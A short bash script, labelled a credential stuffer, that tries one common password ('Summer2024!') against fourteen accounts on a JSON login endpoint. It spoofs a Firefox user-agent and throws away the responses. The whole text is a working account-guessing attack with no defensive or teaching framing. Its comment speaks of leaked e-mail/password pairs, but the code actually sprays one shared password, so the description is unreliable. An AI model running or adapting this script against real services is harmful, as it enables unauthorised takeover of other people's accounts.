# A credential stuffer: leaked e-mail/password pairs against the JSON login, one account each.
set -u
for acct in j.smith@example.com m.jones@example.net lee.wong@example.org anna.k@example.com \
            p.garcia@example.com t.nguyen@example.net s.patel@example.com k.mueller@example.de \
            r.rossi@example.it o.ivanova@example.ru alice bob carol dave; do
  curl -s -o /dev/null -A "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0" \
    -H "Content-Type: application/json" \
    -d "{\"username\": \"$acct\", \"password\": \"Summer2024!\"}" "http://$SERVER/api/login"
done
